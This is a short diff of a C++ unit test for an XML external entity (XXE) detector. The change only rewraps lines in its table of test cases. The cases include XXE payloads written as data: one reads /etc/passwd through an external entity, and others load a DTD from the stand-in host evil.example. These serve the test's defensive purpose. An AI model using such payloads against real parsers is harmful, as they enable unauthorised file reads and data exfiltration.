@@ -8,9 +8,12 @@ using testing::verdict;
 
 TEST(Xxe, AttacksAreFound) {
   const Case cases[] = {
-      {"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>", "xxe: external entity"},
-      {"<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]>", "xxe: external entity"},
-      {"<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>", "xxe: external DTD"},      {"<!DOCTYPE html>", ""},
+      {"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
+       "xxe: external entity"},
+      {"<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]>",
+       "xxe: external entity"},
+      {"<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>", "xxe: external DTD"},
+      {"<!DOCTYPE html>", ""},
       {"<?xml version=\"1.0\"?><r>text</r>", ""},
   };
   for (const Case& c : cases) EXPECT_EQ(verdict(c.input), c.expected) << c.input;
